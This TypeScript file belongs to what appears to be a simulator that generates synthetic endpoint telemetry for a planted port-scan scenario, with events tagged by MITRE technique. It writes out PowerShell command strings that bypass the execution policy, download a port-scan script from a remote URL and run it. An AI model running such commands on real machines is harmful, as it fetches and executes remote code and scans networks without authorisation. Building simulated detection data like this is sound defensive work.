/**
 * Scenario port-scan, from the template's preparation section: a workstation in 10.0.0.0/16
 * downloads a PowerShell port-scan script and runs it with the execution policy bypassed; the
 * script sweeps the server subnet, producing a burst of ConnectionFailed/ConnectionSuccess events
 * to many hosts and ports. Planted the afternoon before the PIP morning.
 */
import { bin } from '../catalog.js';
import type { Device } from '../estate.js';
import type { Rng } from '../prng.js';
import { MINUTE_US } from '../clock/activity-shape.js';
import type { SimContext } from '../gen/context.js';
import { type EndpointCatalog, ephemeralPort } from '../gen/endpoints.js';
import { type BootTree, launch, startSession, withConsole } from '../gen/process-trees.js';
import { pipTimes } from './pip-exfil.js';

export const PORTSCAN_SCENARIO = 'port-scan';
export const SCRIPT_URL = 'https://raw.githubusercontent.com/net-tools-lab/scripts/main/portscan.ps1';
const PORTS = [21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 1433, 3306, 3389, 5985, 8080];

export function chooseScanHost(devices: readonly Device[], johnDevice: number, rng: Rng): Device {
  const ws = devices.filter((d) => d.role === 'workstation' && d.id !== johnDevice);
  return ws.length > 0 ? rng.pick(ws) : devices[0]!;
}

export function plantPortScan(ctx: SimContext, eps: EndpointCatalog, boot: BootTree, host: Device, rng: Rng): number {
  const user = ctx.estate.accounts[host.primaryUser]!;
  const T = pipTimes('UTC', ctx.endUs).pipUs - 19 * 60 * MINUTE_US - 55 * MINUTE_US; // 13:05 UTC the day before
  const plant = (rid: number, table: string, ts: number, step: string, technique: string, detail: string) => ctx.plant(rid, table, host.id, ts, PORTSCAN_SCENARIO, step, technique, detail);
  const session = startSession(ctx, boot, user.id, T - 20 * MINUTE_US, rng);
  const ps1 = launch(ctx, session.explorer, T, {
    bin: bin('powershell').id, cmd: `powershell.exe -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri ${SCRIPT_URL} -OutFile C:\\ProgramData\\portscan.ps1"`,
  }, rng, [bin('ntdll').id, bin('amsi').id, bin('clr').id]);
  withConsole(ctx, ps1, rng);
  plant(ps1.rid, 'DeviceProcessEvents', ps1.ts, 'download-script', 'T1105', 'PowerShell downloads portscan.ps1');
  const tNet = ps1.ts + 1_800_000;
  plant(ctx.net(ps1, tNet, 'ConnectionSuccess', eps.host('raw.githubusercontent.com', 'github'), ephemeralPort(rng.next())), 'DeviceNetworkEvents', tNet, 'download-script', 'T1105', 'HTTPS to raw.githubusercontent.com');
  const tFile = ps1.ts + 2_600_000;
  plant(ctx.file(ps1, tFile, 'FileCreated', ctx.files.id('C:\\ProgramData\\portscan.ps1', 3_914, 'portscan.ps1'), { origin: SCRIPT_URL }), 'DeviceFileEvents', tFile, 'download-script', 'T1105', 'portscan.ps1 written to C:\\ProgramData');

  const ps2 = launch(ctx, session.explorer, T + 70_000_000, { bin: bin('powershell').id, cmd: 'powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\portscan.ps1' }, rng, [bin('ntdll').id, bin('amsi').id, bin('clr').id]);
  withConsole(ctx, ps2, rng);
  plant(ps2.rid, 'DeviceProcessEvents', ps2.ts, 'run-script', 'T1059.001', 'PowerShell runs portscan.ps1 with the execution policy bypassed');

  const live = new Map(ctx.estate.devices.filter((d) => d.ip.startsWith('10.0.1.')).map((d) => [d.ip, d]));
  let t = ps2.ts + 3_000_000;
  let count = 0;
  for (let h = 1; h <= 60; h++) {
    const ip = `10.0.1.${h}`;
    const target = live.get(ip);
    for (const port of PORTS) {
      t += 60_000 + rng.int(150_000);
      const open = target !== undefined && [135, 445, 3389, 5985].includes(port);
      const rid = ctx.net(ps2, t, open ? 'ConnectionSuccess' : 'ConnectionFailed', eps.internal(ip, port), ephemeralPort(rng.next()));
      plant(rid, 'DeviceNetworkEvents', t, 'port-scan', 'T1046', `${ip}:${port}`);
      count++;
    }
  }
  return count;
}
